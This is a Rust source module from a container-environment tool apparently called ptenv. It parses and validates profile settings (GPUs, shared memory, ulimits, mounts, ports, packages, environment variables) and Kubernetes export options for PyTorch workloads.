//! Profiles: what the user wants their environment to be.
//!
//! A profile is assembled from layers, lowest first: the built-in profile of its mode
//! (`profiles/*.yaml`, compiled in) → the user's config file → the project's `ptenv.yaml` →
//! command-line flags. Each file may hold settings for all of its profiles at the top level,
//! a `default:` profile name and named `profiles:`. This module is pure: it parses text it is
//! given and merges layers; reading the files is the binary's (`profile::load_sources`).

use std::collections::BTreeMap;
use std::fmt;
use std::path::{Path, PathBuf};

use serde::de::{self, Deserializer};
use serde::{Deserialize, Serialize};

use crate::error::{Error, Result};
use crate::project::slug;
use crate::size::parse_size;

/// The three ways of working inside an environment.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, PartialOrd, Ord)]
#[serde(rename_all = "lowercase")]
pub enum Mode {
    Jupyter,
    Ssh,
    Shell,
}

impl Mode {
    pub const ALL: [Mode; 3] = [Mode::Jupyter, Mode::Ssh, Mode::Shell];

    pub fn as_str(self) -> &'static str {
        match self {
            Mode::Jupyter => "jupyter",
            Mode::Ssh => "ssh",
            Mode::Shell => "shell",
        }
    }
}

impl fmt::Display for Mode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// `runtime` images carry the CUDA libraries torch needs; `devel` adds the toolkit (nvcc).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Variant {
    Runtime,
    Devel,
}

impl Variant {
    pub fn as_str(self) -> &'static str {
        match self {
            Variant::Runtime => "runtime",
            Variant::Devel => "devel",
        }
    }
}

impl fmt::Display for Variant {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// When to pull the base image, as `docker run --pull`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum PullPolicy {
    /// Pull only when the image is not present (the default).
    Missing,
    /// Pull on every `up`, to pick up a re-pushed tag.
    Always,
    /// Never pull; fail if the image is absent.
    Never,
}

/// Which GPUs to hand to the container, with docker's `--gpus` meanings (docs/gpus.md §1).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Gpus {
    All,
    None,
    /// That many GPUs (`gpus: 2`, `--gpus 2`): `up` takes free ones (docs/gpus.md §5).
    Count(u32),
    /// GPU indexes ("0") or UUIDs ("GPU-…"), as `--gpus device=…`.
    Devices(Vec<String>),
}

impl Gpus {
    /// `all`, `none`, a count (`2`, `count=2`), or `device=0,2` / `device=GPU-…`, as
    /// `docker run --gpus` reads them (docs/gpus.md §1).
    pub fn parse(text: &str) -> std::result::Result<Gpus, String> {
        let t = text.trim().trim_matches('"');
        match t {
            "all" | "count=all" => Ok(Gpus::All),
            "none" | "" => Ok(Gpus::None),
            _ if t
                .strip_prefix("count=")
                .unwrap_or(t)
                .bytes()
                .all(|b| b.is_ascii_digit()) =>
            {
                Gpus::count(t.strip_prefix("count=").unwrap_or(t))
            }
            _ => {
                let t = t.strip_prefix("device=").unwrap_or(t);
                let devices: Vec<String> = t.split(',').map(|d| d.trim().to_string()).collect();
                for d in &devices {
                    Gpus::check_device(d)?;
                }
                Ok(Gpus::Devices(devices))
            }
        }
    }

    fn count(n: &str) -> std::result::Result<Gpus, String> {
        match n.parse::<u32>() {
            Ok(0) => Ok(Gpus::None),
            Ok(n) => Ok(Gpus::Count(n)),
            Err(_) => Err(format!("`{n}` is not a number of GPUs")),
        }
    }

    fn check_device(d: &str) -> std::result::Result<(), String> {
        if d.chars().all(|c| c.is_ascii_digit()) && !d.is_empty()
            || d.starts_with("GPU-")
            || d.starts_with("MIG-")
        {
            Ok(())
        } else {
            Err(format!(
                "`{d}` is not a GPU: write `all`, `none`, a number of GPUs (2), or the GPUs by index or UUID (`device=0,2`, `[0, 2]`, GPU-…)"
            ))
        }
    }

    pub fn wants_gpu(&self) -> bool {
        !matches!(self, Gpus::None)
    }
}

impl fmt::Display for Gpus {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Gpus::All => f.write_str("all"),
            Gpus::None => f.write_str("none"),
            Gpus::Count(n) => write!(f, "{n}"),
            Gpus::Devices(d) => write!(f, "device={}", d.join(",")),
        }
    }
}

impl Serialize for Gpus {
    fn serialize<S: serde::Serializer>(&self, s: S) -> std::result::Result<S::Ok, S::Error> {
        match self {
            Gpus::Devices(d) => d.serialize(s),
            Gpus::Count(n) => s.serialize_u32(*n),
            other => s.serialize_str(&other.to_string()),
        }
    }
}

impl<'de> Deserialize<'de> for Gpus {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        checked(d, |v| {
            match v {
            serde_yaml::Value::String(s) => Gpus::parse(&s).map_err(bad),
            serde_yaml::Value::Sequence(items) => {
                let mut devices = Vec::new();
                for item in items {
                    let d = scalar_string(&item).ok_or_else(|| {
                        bad("a GPU in the list must be an index (0) or a UUID (GPU-…)")
                    })?;
                    Gpus::check_device(&d).map_err(bad)?;
                    devices.push(d);
                }
                if devices.is_empty() {
                    return Ok(Gpus::None);
                }
                Ok(Gpus::Devices(devices))
            }
            // A bare number is a count, as `docker run --gpus 2` (docs/gpus.md §1); GPU 2 is
            // `[2]`.
            serde_yaml::Value::Number(n) => Gpus::count(&n.to_string()).map_err(|_| {
                bad(format!(
                    "`gpus: {n}` is not a number of GPUs: write a whole number (2), `all`, `none`, or the GPUs as a list such as `[0, 2]`"
                ))
            }),
            _ => Err(bad(
                "`gpus` must be `all`, `none`, a number of GPUs (2), or a list of GPU indexes or UUIDs",
            )),
        }
        })
    }
}

/// Shared memory for `/dev/shm`: PyTorch DataLoader workers pass tensors through it, and
/// Docker's default of 64 MB makes them crash with a bus error.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ShmSize {
    /// Half of the host's RAM, decided when the container is planned.
    Auto,
    Bytes(u64),
}

impl ShmSize {
    pub fn parse(text: &str) -> std::result::Result<ShmSize, String> {
        if text.trim() == "auto" {
            Ok(ShmSize::Auto)
        } else {
            let bytes = parse_size(text)?;
            if bytes < 1024 * 1024 {
                return Err(format!(
                    "`{text}` is below 1 MiB; shared memory that small breaks DataLoader workers (write e.g. `8g` or `auto`)"
                ));
            }
            Ok(ShmSize::Bytes(bytes))
        }
    }
}

impl Serialize for ShmSize {
    fn serialize<S: serde::Serializer>(&self, s: S) -> std::result::Result<S::Ok, S::Error> {
        match self {
            ShmSize::Auto => s.serialize_str("auto"),
            ShmSize::Bytes(b) => s.serialize_str(&crate::size::human(*b).replace(' ', "")),
        }
    }
}

impl<'de> Deserialize<'de> for ShmSize {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        checked(d, |v| {
            let text = scalar_string(&v)
                .ok_or_else(|| bad("`shm_size` must be `auto` or a size like `8g`"))?;
            ShmSize::parse(&text).map_err(bad)
        })
    }
}

/// `ipc: host` shares the host's IPC namespace and /dev/shm; `private` (Docker's default for
/// `docker run`) gives the container its own /dev/shm sized by `shm_size`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Ipc {
    Private,
    Host,
}

/// One resource limit, as `docker run --ulimit name=soft[:hard]`; -1 means unlimited.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct Ulimit {
    pub soft: i64,
    pub hard: i64,
}

/// The names `docker run --ulimit` accepts (go-units `ulimitNameMapping`).
pub const ULIMIT_NAMES: [&str; 15] = [
    "core",
    "cpu",
    "data",
    "fsize",
    "locks",
    "memlock",
    "msgqueue",
    "nice",
    "nofile",
    "nproc",
    "rss",
    "rtprio",
    "rttime",
    "sigpending",
    "stack",
];

impl Ulimit {
    /// `-1`, `67108864`, `1024:4096`, `64m` (sizes for the byte-valued limits).
    pub fn parse(text: &str) -> std::result::Result<Ulimit, String> {
        let one = |t: &str| -> std::result::Result<i64, String> {
            let t = t.trim();
            if t == "-1" || t == "unlimited" {
                return Ok(-1);
            }
            parse_size(t).map(|b| b as i64).map_err(|_| {
                format!("`{t}` is not a limit: write a number, `-1` for unlimited, or `soft:hard`")
            })
        };
        let (soft, hard) = match text.split_once(':') {
            Some((s, h)) => (one(s)?, one(h)?),
            None => {
                let v = one(text)?;
                (v, v)
            }
        };
        if hard != -1 && (soft == -1 || soft > hard) {
            return Err(format!("`{text}`: the soft limit is above the hard limit"));
        }
        Ok(Ulimit { soft, hard })
    }
}

impl<'de> Deserialize<'de> for Ulimit {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        checked(d, |v| match v {
            serde_yaml::Value::Mapping(m) => {
                #[derive(Deserialize)]
                #[serde(deny_unknown_fields)]
                struct SoftHard {
                    soft: i64,
                    hard: i64,
                }
                let sh: SoftHard =
                    serde_yaml::from_value(serde_yaml::Value::Mapping(m)).map_err(|e| {
                        bad(format!(
                            "a ulimit written as a map needs `soft` and `hard` numbers ({e})"
                        ))
                    })?;
                Ulimit::parse(&format!("{}:{}", sh.soft, sh.hard)).map_err(bad)
            }
            v => {
                let text = scalar_string(&v)
                    .ok_or_else(|| bad("a ulimit is a number, `-1`, or `soft:hard`"))?;
                Ulimit::parse(&text).map_err(bad)
            }
        })
    }
}

/// An extra bind mount: `source:target[:ro]` or `{source, target, readonly}`. A relative
/// source is relative to the project folder; `~` is the user's home.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Mount {
    pub source: String,
    pub target: String,
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub readonly: bool,
}

impl Mount {
    pub fn parse(text: &str) -> std::result::Result<Mount, String> {
        let parts: Vec<&str> = text.split(':').collect();
        let (source, target, readonly) = match parts.as_slice() {
            [s, t] => (*s, *t, false),
            [s, t, "ro"] => (*s, *t, true),
            [s, t, "rw"] => (*s, *t, false),
            _ => {
                return Err(format!(
                    "`{text}` is not a mount: write `source:target` or `source:target:ro`"
                ))
            }
        };
        Mount::new(source, target, readonly)
    }

    fn new(source: &str, target: &str, readonly: bool) -> std::result::Result<Mount, String> {
        if source.is_empty() {
            return Err("a mount needs a source folder".into());
        }
        if !target.starts_with('/') {
            return Err(format!(
                "the mount target `{target}` must be an absolute path inside the container"
            ));
        }
        if target.trim_end_matches('/') == WORKDIR {
            return Err(format!(
                "`{WORKDIR}` is where ptenv mounts the project folder; mount `{source}` somewhere else"
            ));
        }
        Ok(Mount {
            source: source.to_string(),
            target: target.to_string(),
            readonly,
        })
    }
}

impl<'de> Deserialize<'de> for Mount {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        checked(d, |v| match v {
            serde_yaml::Value::String(s) => Mount::parse(&s).map_err(bad),
            v @ serde_yaml::Value::Mapping(_) => {
                #[derive(Deserialize)]
                #[serde(deny_unknown_fields)]
                struct Long {
                    source: String,
                    target: String,
                    #[serde(default)]
                    readonly: bool,
                }
                let l: Long = serde_yaml::from_value(v).map_err(|e| {
                    bad(format!(
                        "a mount written as a map has `source`, `target` and optional `readonly` ({e})"
                    ))
                })?;
                Mount::new(&l.source, &l.target, l.readonly).map_err(bad)
            }
            _ => Err(bad(
                "a mount is `source:target[:ro]` or a map with `source` and `target`",
            )),
        })
    }
}

/// A published port. The host side binds to 127.0.0.1 unless `bind` says otherwise; with no
/// host port, ptenv uses the container port or the next free one above it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Port {
    pub container: u16,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub host: Option<u16>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub bind: Option<String>,
}

impl Port {
    /// `8888`, `8000:8888` (host:container), `0.0.0.0:8000:8888`.
    pub fn parse(text: &str) -> std::result::Result<Port, String> {
        let num = |t: &str| -> std::result::Result<u16, String> {
            match t.trim().parse::<u16>() {
                Ok(p) if p > 0 => Ok(p),
                _ => Err(format!("`{t}` is not a port number (1-65535)")),
            }
        };
        let parts: Vec<&str> = text.rsplitn(3, ':').collect();
        match parts.as_slice() {
            [c] => Ok(Port {
                container: num(c)?,
                host: None,
                bind: None,
            }),
            [c, h] => Ok(Port {
                container: num(c)?,
                host: Some(num(h)?),
                bind: None,
            }),
            [c, h, ip] => Ok(Port {
                container: num(c)?,
                host: Some(num(h)?),
                bind: Some(check_ip(ip)?),
            }),
            _ => Err(format!(
                "`{text}` is not a port: write `8888` or `8000:8888`"
            )),
        }
    }
}

fn check_ip(ip: &str) -> std::result::Result<String, String> {
    ip.parse::<std::net::IpAddr>()
        .map(|_| ip.to_string())
        .map_err(|_| format!("`{ip}` is not an IP address to bind to (e.g. 127.0.0.1 or 0.0.0.0)"))
}

impl<'de> Deserialize<'de> for Port {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        checked(d, |v| match v {
            v @ serde_yaml::Value::Mapping(_) => {
                #[derive(Deserialize)]
                #[serde(deny_unknown_fields)]
                struct Long {
                    container: u16,
                    host: Option<u16>,
                    bind: Option<String>,
                }
                let l: Long = serde_yaml::from_value(v).map_err(|e| {
                    bad(format!(
                        "a port written as a map has `container`, optional `host` and `bind` ({e})"
                    ))
                })?;
                let bind = l.bind.map(|b| check_ip(&b)).transpose().map_err(bad)?;
                if l.container == 0 || l.host == Some(0) {
                    return Err(bad("port 0 is not a port"));
                }
                Ok(Port {
                    container: l.container,
                    host: l.host,
                    bind,
                })
            }
            v => {
                let text = scalar_string(&v)
                    .ok_or_else(|| bad("a port is `8888`, `8000:8888` or a map"))?;
                Port::parse(&text).map_err(bad)
            }
        })
    }
}

/// Extra packages baked into the derived image.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Packages {
    #[serde(
        default,
        skip_serializing_if = "Vec::is_empty",
        deserialize_with = "apt_packages"
    )]
    pub apt: Vec<String>,
    #[serde(
        default,
        skip_serializing_if = "Vec::is_empty",
        deserialize_with = "pip_packages"
    )]
    pub pip: Vec<String>,
}

/// Package names are checked as the file is read, so the error names the file and the line.
fn apt_packages<'de, D: Deserializer<'de>>(d: D) -> std::result::Result<Vec<String>, D::Error> {
    checked_names(d, "a Debian package", crate::package_name::check_apt)
}

fn pip_packages<'de, D: Deserializer<'de>>(d: D) -> std::result::Result<Vec<String>, D::Error> {
    checked_names(d, "a pip requirement", crate::package_name::check_pip)
}

fn checked_names<'de, D: Deserializer<'de>>(
    d: D,
    what: &str,
    check: fn(&str) -> std::result::Result<(), String>,
) -> std::result::Result<Vec<String>, D::Error> {
    let names = Vec::<String>::deserialize(d)?;
    for name in &names {
        // `{:?}` shows a newline or an escape character as such, not as a line break.
        check(name).map_err(|m| de::Error::custom(format!("{name:?} is not {what}: {m}")))?;
    }
    Ok(names)
}

/// The container's command: a list (exec form) or a string run by `/bin/sh -c`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct Command(pub Vec<String>);

impl<'de> Deserialize<'de> for Command {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        checked(d, |v| match v {
            serde_yaml::Value::String(s) if !s.trim().is_empty() => {
                Ok(Command(vec!["/bin/sh".into(), "-c".into(), s]))
            }
            serde_yaml::Value::Sequence(items) if !items.is_empty() => items
                .iter()
                .map(|i| {
                    scalar_string(i).ok_or_else(|| bad("each word of `command` must be a string"))
                })
                .collect::<std::result::Result<Vec<_>, _>>()
                .map(Command),
            _ => Err(bad(
                "`command` must be a non-empty string or list of strings",
            )),
        })
    }
}

/// A version written in YAML: `"2.6"` and `2.6` (a float to YAML) both mean the string "2.6".
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct Version(pub String);

impl Version {
    pub fn parse(text: &str) -> std::result::Result<Version, String> {
        let t = text.trim();
        let parts: Vec<&str> = t.split('.').collect();
        if (2..=3).contains(&parts.len())
            && parts
                .iter()
                .all(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_digit()))
        {
            Ok(Version(t.to_string()))
        } else {
            Err(format!(
                "`{t}` is not a version; write it like \"2.6\" or \"12.4\""
            ))
        }
    }
}

/// `pytorch: latest`: the newest release with an image that runs on the machine.
pub const LATEST: &str = "latest";

impl Version {
    /// A PyTorch version: a version, or `latest`.
    pub fn parse_pytorch(text: &str) -> std::result::Result<Version, String> {
        if text.trim() == LATEST {
            return Ok(Version(LATEST.to_string()));
        }
        Version::parse(text).map_err(|_| {
            format!(
                "`{}` is not a PyTorch version; write it like \"2.6\", or `latest`",
                text.trim()
            )
        })
    }
}

fn pytorch_version<'de, D: Deserializer<'de>>(
    d: D,
) -> std::result::Result<Option<Version>, D::Error> {
    checked(d, |v| {
        let text = scalar_string(&v)
            .ok_or_else(|| bad("a PyTorch version is written like \"2.6\", or `latest`"))?;
        // YAML reads `2.10` as the number 2.1: the trailing zero is gone before ptenv sees it.
        let ten = format!("{text}0");
        if v.is_number()
            && crate::catalog::releases()
                .iter()
                .any(|r| r.starts_with(&format!("{ten}.")))
        {
            return Err(bad(format!(
                "`pytorch: {text}` is a number to YAML, which reads 2.10 as 2.1; quote it: \"{text}\" or \"{ten}\""
            )));
        }
        Version::parse_pytorch(&text).map(Some).map_err(bad)
    })
}
impl<'de> Deserialize<'de> for Version {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        checked(d, |v| {
            let text = scalar_string(&v).ok_or_else(|| bad("a version is written like \"2.6\""))?;
            Version::parse(&text).map_err(bad)
        })
    }
}

/// An environment variable value: YAML numbers and booleans become their text.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct EnvValue(pub String);

impl<'de> Deserialize<'de> for EnvValue {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        checked(d, |v| {
            scalar_string(&v)
                .map(EnvValue)
                .ok_or_else(|| bad("an environment value must be a string, number or boolean"))
        })
    }
}

/// An environment variable's name. Names that ptenv itself sets in the container (its
/// `PTENV_*` wiring, and `JUPYTER_*`, which carries the Jupyter token) are refused: a project
/// file could otherwise replace the generated token with one it knows.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(transparent)]
pub struct EnvName(pub String);

/// Prefixes of the variables ptenv owns in its containers.
pub const RESERVED_ENV_PREFIXES: [&str; 2] = ["PTENV_", "JUPYTER_"];

impl EnvName {
    pub fn parse(text: &str) -> std::result::Result<EnvName, String> {
        if text.is_empty() || text.contains('=') || text.chars().any(char::is_control) {
            return Err(format!("`{text}` is not an environment variable name"));
        }
        if let Some(prefix) = RESERVED_ENV_PREFIXES.iter().find(|p| text.starts_with(*p)) {
            return Err(format!(
                "`{text}` is refused: ptenv sets the `{prefix}*` variables itself (the Jupyter token, its own wiring); remove it (`ptenv up --new-token` rotates the token)"
            ));
        }
        Ok(EnvName(text.to_string()))
    }
}

impl<'de> Deserialize<'de> for EnvName {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        checked(d, |v| {
            let text =
                scalar_string(&v).ok_or_else(|| bad("an environment variable name is a string"))?;
            EnvName::parse(&text).map_err(bad)
        })
    }
}

/// Settings only the exports use (`ptenv export k8s`; `nccl`, `nproc_per_node` and
/// `gpus_per_node` also for `ptenv export compose --nodes`): where the pod may be scheduled, the workspace's claim, requests, and
/// multi-GPU and multi-node training. `ptenv up` ignores them.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Kubernetes {
    /// Node labels the pod needs, e.g. `nvidia.com/gpu.product: NVIDIA-A100-SXM4-80GB`.
    #[serde(
        default,
        skip_serializing_if = "BTreeMap::is_empty",
        deserialize_with = "k8s_node_selector"
    )]
    pub node_selector: BTreeMap<String, EnvValue>,
    /// Taints the pod tolerates, e.g. `{key: nvidia.com/gpu, operator: Exists, effect: NoSchedule}`.
    #[serde(
        default,
        skip_serializing_if = "Vec::is_empty",
        deserialize_with = "k8s_tolerations"
    )]
    pub tolerations: Vec<Toleration>,
    /// The PersistentVolumeClaim that holds the workspace (default `<project>-workspace`).
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "k8s_pvc"
    )]
    pub pvc: Option<String>,
    /// Train on N GPUs of one node: the Job runs `torchrun --nproc_per_node=N` with `command`.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "k8s_nproc_per_node"
    )]
    pub nproc_per_node: Option<u32>,
    /// CPU request, as Kubernetes writes it: `4`, `500m`.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "k8s_cpu"
    )]
    pub cpu: Option<EnvValue>,
    /// Memory request, a size such as `32g` (default: the size of /dev/shm, which the pod's
    /// memory pays for).
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "k8s_memory"
    )]
    pub memory: Option<EnvValue>,
    /// Train on N nodes (pods): a PyTorchJob or JobSet whose pods
    /// rendezvous through torchrun's c10d backend.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "k8s_nodes"
    )]
    pub nodes: Option<u32>,
    /// GPUs each pod asks for (`nvidia.com/gpu`); torchrun starts one process per GPU unless
    /// `nproc_per_node` says otherwise.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "k8s_gpus_per_node"
    )]
    pub gpus_per_node: Option<u32>,
    /// NCCL settings passed through as `NCCL_<KEY>` variables (`socket_ifname: eth0` →
    /// `NCCL_SOCKET_IFNAME=eth0`): the network interface and debug level depend on the
    /// cluster, so ptenv never guesses them.
    #[serde(
        default,
        skip_serializing_if = "BTreeMap::is_empty",
        deserialize_with = "k8s_nccl"
    )]
    pub nccl: BTreeMap<String, EnvValue>,
}

/// Field deserializers of [`Kubernetes`]: each value is checked where it is written (so the
/// error has its line), by the same rules as the whole section.
macro_rules! k8s_field {
    ($name:ident, $field:ident: $ty:ty, $wrap:expr) => {
        fn $name<'de, D: Deserializer<'de>>(d: D) -> std::result::Result<$ty, D::Error> {
            checked(d, |v| {
                let value: $ty = $wrap(serde_yaml::from_value(v)?);
                Kubernetes {
                    $field: value.clone(),
                    ..Kubernetes::default()
                }
                .check()
                .map_err(bad)?;
                Ok(value)
            })
        }
    };
}
k8s_field!(k8s_node_selector, node_selector: BTreeMap<String, EnvValue>, std::convert::identity);
k8s_field!(k8s_tolerations, tolerations: Vec<Toleration>, std::convert::identity);
k8s_field!(k8s_pvc, pvc: Option<String>, Some);
k8s_field!(k8s_nproc_per_node, nproc_per_node: Option<u32>, Some);
k8s_field!(k8s_cpu, cpu: Option<EnvValue>, Some);
k8s_field!(k8s_memory, memory: Option<EnvValue>, Some);
k8s_field!(k8s_nodes, nodes: Option<u32>, Some);
k8s_field!(k8s_gpus_per_node, gpus_per_node: Option<u32>, Some);
k8s_field!(k8s_nccl, nccl: BTreeMap<String, EnvValue>, std::convert::identity);

impl Kubernetes {
    /// `over` on top of `self`: node labels merge by key, tolerations accumulate, the rest is
    /// replaced when given.
    fn merge(&mut self, over: &Kubernetes) {
        self.node_selector.extend(over.node_selector.clone());
        for t in &over.tolerations {
            if !self.tolerations.contains(t) {
                self.tolerations.push(t.clone());
            }
        }
        if over.pvc.is_some() {
            self.pvc = over.pvc.clone();
        }
        if over.nproc_per_node.is_some() {
            self.nproc_per_node = over.nproc_per_node;
        }
        if over.cpu.is_some() {
            self.cpu = over.cpu.clone();
        }
        if over.memory.is_some() {
            self.memory = over.memory.clone();
        }
        if over.nodes.is_some() {
            self.nodes = over.nodes;
        }
        if over.gpus_per_node.is_some() {
            self.gpus_per_node = over.gpus_per_node;
        }
        self.nccl.extend(over.nccl.clone());
    }

    /// The NCCL settings as the container's environment: `NCCL_SOCKET_IFNAME=eth0`.
    pub fn nccl_env(&self) -> Vec<(String, String)> {
        self.nccl
            .iter()
            .map(|(k, v)| (format!("NCCL_{}", k.to_ascii_uppercase()), v.0.clone()))
            .collect()
    }

    /// What one layer cannot check alone: names and values as the API server would refuse them.
    fn check(&self) -> std::result::Result<(), String> {
        if let Some(pvc) = &self.pvc {
            if !is_dns_subdomain(pvc) {
                return Err(format!(
                    "`kubernetes.pvc: {pvc}` is not a claim name: lowercase letters, digits, `-` and `.`, starting and ending with a letter or digit"
                ));
            }
        }
        for (k, v) in &self.node_selector {
            check_label_key(k)?;
            let v = &v.0;
            let ok = v.len() <= 63
                && v.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
                && (v.is_empty()
                    || v.starts_with(|c: char| c.is_ascii_alphanumeric())
                        && v.ends_with(|c: char| c.is_ascii_alphanumeric()));
            if !ok {
                return Err(format!(
                    "`kubernetes.node_selector`: `{v}` is not a label value (at most 63 letters, digits, `-`, `_`, `.`)"
                ));
            }
        }
        for t in &self.tolerations {
            if let Some(k) = &t.key {
                check_label_key(k)?;
            }
            match (t.operator, &t.key, &t.value) {
                (TolerationOperator::Exists, _, Some(v)) => {
                    return Err(format!(
                        "`kubernetes.tolerations`: `operator: Exists` takes no value (`{v}`); use `operator: Equal`"
                    ))
                }
                (TolerationOperator::Equal, None, _) => {
                    return Err(
                        "`kubernetes.tolerations`: `operator: Equal` needs a `key`".to_string()
                    )
                }
                _ => {}
            }
        }
        if self.nproc_per_node == Some(0) {
            return Err("`kubernetes.nproc_per_node` must be at least 1".into());
        }
        if self.nodes == Some(0) {
            return Err(
                "`kubernetes.nodes` must be at least 1 (the number of pods that train together)"
                    .into(),
            );
        }
        for (k, v) in &self.nccl {
            let key_ok = !k.is_empty()
                && k.starts_with(|c: char| c.is_ascii_lowercase())
                && k.chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_');
            if !key_ok {
                return Err(format!(
                    "`kubernetes.nccl`: `{k}` is not an NCCL setting name: write it in lowercase without the prefix, e.g. `socket_ifname` for NCCL_SOCKET_IFNAME"
                ));
            }
            // NCCL's documented levels (docs/multinode.md): a typo would silently log nothing.
            if k == "debug" && !["VERSION", "WARN", "INFO", "TRACE"].contains(&v.0.as_str()) {
                return Err(format!(
                    "`kubernetes.nccl.debug: {}` is not an NCCL debug level: VERSION, WARN, INFO or TRACE",
                    v.0
                ));
            }
        }
        if let Some(cpu) = &self.cpu {
            let c = cpu.0.as_str();
            let number = |t: &str| {
                !t.is_empty()
                    && t.chars().all(|c| c.is_ascii_digit() || c == '.')
                    && t.matches('.').count() <= 1
                    && t.chars().any(|c| c.is_ascii_digit())
            };
            let ok = match c.strip_suffix('m') {
                Some(milli) => !milli.is_empty() && milli.chars().all(|c| c.is_ascii_digit()),
                None => number(c),
            };
            if !ok
                || c.trim_end_matches('m')
                    .chars()
                    .all(|c| c == '0' || c == '.')
            {
                return Err(format!(
                    "`kubernetes.cpu: {c}` is not a CPU request: write e.g. `4`, `0.5` or `500m`"
                ));
            }
        }
        if let Some(m) = &self.memory {
            parse_size(&m.0).map_err(|e| format!("`kubernetes.memory`: {e}"))?;
        }
        Ok(())
    }
}

/// A toleration as Kubernetes writes it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct Toleration {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub key: Option<String>,
    #[serde(default)]
    pub operator: TolerationOperator,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub value: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub effect: Option<TaintEffect>,
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub enum TolerationOperator {
    /// Kubernetes' default.
    #[default]
    Equal,
    Exists,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum TaintEffect {
    NoSchedule,
    PreferNoSchedule,
    NoExecute,
}

/// RFC 1123 subdomain, as Kubernetes object names: `a-b.c`, at most 253 characters.
pub fn is_dns_subdomain(name: &str) -> bool {
    name.len() <= 253
        && name.split('.').all(|part| {
            !part.is_empty()
                && part
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
                && !part.starts_with('-')
                && !part.ends_with('-')
        })
}

/// A label key: `[prefix/]name`, the prefix a DNS subdomain, the name at most 63 letters,
/// digits, `-`, `_`, `.`, starting and ending with a letter or digit.
fn check_label_key(key: &str) -> std::result::Result<(), String> {
    let (prefix, name) = match key.rsplit_once('/') {
        Some((p, n)) => (Some(p), n),
        None => (None, key),
    };
    let name_ok = !name.is_empty()
        && name.len() <= 63
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
        && name.starts_with(|c: char| c.is_ascii_alphanumeric())
        && name.ends_with(|c: char| c.is_ascii_alphanumeric());
    if name_ok && prefix.is_none_or(is_dns_subdomain) {
        Ok(())
    } else {
        Err(format!(
            "`{key}` is not a Kubernetes label key (e.g. `nvidia.com/gpu.product`)"
        ))
    }
}

/// A check's error, placed by [`checked`].
fn bad(message: impl fmt::Display) -> serde_yaml::Error {
    <serde_yaml::Error as de::Error>::custom(message)
}

/// Deserialize one value of a profile file through `check`, so that its errors carry the
/// place of that value: serde_yaml marks an error with the position of the node whose visitor
/// raised it, and a check that ran after `Value::deserialize` returned would be marked at the
/// enclosing map instead (the file's first key, for top-level settings).
fn checked<'de, D, T>(
    d: D,
    check: impl FnOnce(serde_yaml::Value) -> std::result::Result<T, serde_yaml::Error>,
) -> std::result::Result<T, D::Error>
where
    D: Deserializer<'de>,
{
    d.deserialize_any(Checked(check, std::marker::PhantomData))
}

